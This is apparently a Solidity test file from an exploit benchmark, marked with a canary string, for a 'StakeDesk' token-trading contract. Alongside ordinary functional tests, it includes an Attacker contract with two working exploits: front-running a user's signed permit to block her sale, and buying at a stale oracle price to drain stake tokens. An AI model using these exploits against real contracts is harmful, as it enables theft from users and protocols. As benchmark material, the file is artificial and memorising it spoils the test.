// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./StakeDesk.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";

// assay-canary-f8f98a6a-f346-4c2f-8048-f70cfc874990

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Stake is ERC20, ERC20Permit {
    constructor() ERC20("Stake", "ST") ERC20Permit("Stake") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Cash is ERC20 {
    constructor() ERC20("Cash", "CASH") {
        _mint(msg.sender, 20_000e18);
    }
}

/// Elsewhere: takes stake at its present worth.
contract Market {
    IERC20 private stake;
    IERC20 private cash;
    uint256 private start = block.timestamp;

    constructor(IERC20 s, IERC20 c) {
        stake = s;
        cash = c;
    }

    function sell(uint256 amount) external {
        stake.transferFrom(msg.sender, address(this), amount);
        cash.transfer(msg.sender, (amount * (100 + (block.timestamp - start) / 1 days)) / 100);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant TREASURY = address(0x7EA);
    address private constant REPORTER = address(0x4E9);
    uint256 private constant START = 1_763_000_000;
    uint256 private constant KEY = 0xA9A;

    Stake private token;
    Cash private coins;
    RateOracle private oracle;
    StakeDesk private desk;
    Attacker private mallory;
    address private ana;
    uint8 private v;
    bytes32 private r;
    bytes32 private s;

    function setUp() public {
        vm.warp(START);
        token = new Stake();
        coins = new Cash();
        oracle = new RateOracle(REPORTER);
        vm.prank(REPORTER);
        oracle.record(1e18);
        desk = new StakeDesk(token, coins, oracle, TREASURY);
        Market market = new Market(token, coins);
        coins.transfer(address(market), 5_000e18);
        coins.transfer(address(desk), 5_000e18);
        token.transfer(address(desk), 2_000e18);
        ana = vm.addr(KEY);
        token.transfer(ana, 100e18);
        mallory = new Attacker(desk, token, coins, market);
        token.transfer(address(mallory), 1_000e18);
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, ana, address(desk), 40e18, 0, START + 1 hours));
        (v, r, s) = vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", token.DOMAIN_SEPARATOR(), hash)));
        mallory.see(ana, START + 1 hours, v, r, s);
    }

    function test_Regular() public {
        sale();
        require(coins.balanceOf(ana) == 40e18, "with a permit");
        vm.startPrank(ana);
        token.approve(address(desk), 10e18);
        require(desk.sell(10e18, 9e18) == 10e18, "with an approval");
        coins.approve(address(desk), 50e18);
        require(desk.buy(50e18, 50e18) == 50e18 && token.balanceOf(ana) == 100e18, "and back");
        vm.stopPrank();
        vm.warp(START + 12 hours);
        vm.prank(REPORTER);
        oracle.record(1.01e18);
        require(desk.price() == 1.01e18, "a new price");
        vm.startPrank(TREASURY);
        desk.take(coins, 10e18);
        desk.take(token, 1e18);
        vm.stopPrank();
        require(coins.balanceOf(TREASURY) == 10e18, "taken");
    }

    function test_RefusesTrades() public {
        vm.startPrank(ana);
        token.approve(address(desk), 100e18);
        vm.expectRevert("StakeDesk: too little");
        desk.sell(10e18, 11e18);
        vm.expectRevert("StakeDesk: too little");
        desk.sell(0, 0);
        coins.approve(address(desk), 100e18);
        vm.expectRevert("StakeDesk: too little");
        desk.buy(10e18, 11e18);
        vm.expectRevert("StakeDesk: too little");
        desk.buy(0, 0);
        token.approve(address(desk), 0);
        vm.expectRevert();
        desk.sellWithPermit(41e18, 0, START + 1 hours, v, r, s);
        vm.expectRevert("DeskBase: not the treasury");
        desk.take(coins, 1);
        vm.expectRevert("RateOracle: not the reporter");
        oracle.record(1e18);
        vm.stopPrank();
    }

    function test_RefusesSetups() public {
        vm.expectRevert("StakeDesk: no oracle");
        new StakeDesk(token, coins, RateOracle(address(0)), TREASURY);
        vm.expectRevert("DeskBase: bad setup");
        new StakeDesk(token, token, oracle, TREASURY);
        vm.expectRevert("DeskBase: bad setup");
        new StakeDesk(token, coins, oracle, address(0));
        RateOracle empty = new RateOracle(REPORTER);
        vm.prank(REPORTER);
        empty.record(0);
        StakeDesk other = new StakeDesk(token, coins, empty, TREASURY);
        vm.expectRevert("StakeDesk: no price");
        other.price();
        vm.startPrank(REPORTER);
        vm.expectRevert("RateOracle: out of bounds");
        oracle.record(0.99e18);
        vm.expectRevert("RateOracle: out of bounds");
        oracle.record(1.11e18);
        vm.stopPrank();
    }

    function sale() public {
        vm.prank(ana);
        desk.sellWithPermit(40e18, 40e18, START + 1 hours, v, r, s);
    }

    function exploit() public {
        mallory.first();
    }

    function test_Exploit() public {
        exploit();
        vm.prank(ana);
        vm.expectRevert();
        desk.sellWithPermit(40e18, 40e18, START + 1 hours, v, r, s);
    }

    function exploit2() public {
        vm.warp(START + 30 days);
        mallory.trade();
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 1_250e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function stake() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    StakeDesk private desk;
    Stake private token;
    Cash private coins;
    Market private market;
    address private owner;
    uint256 private deadline;
    uint8 private v;
    bytes32 private r;
    bytes32 private s;

    constructor(StakeDesk d, Stake t, Cash c, Market m) {
        desk = d;
        token = t;
        coins = c;
        market = m;
    }

    function see(address o, uint256 d, uint8 v_, bytes32 r_, bytes32 s_) external {
        (owner, deadline, v, r, s) = (o, d, v_, r_, s_);
    }

    function first() external {
        token.permit(owner, address(desk), 40e18, deadline, v, r, s);
    }

    function trade() external {
        coins.approve(address(desk), type(uint256).max);
        token.approve(address(market), type(uint256).max);
        market.sell(token.balanceOf(address(this)));
        desk.buy(coins.balanceOf(address(this)), 0);
    }
}
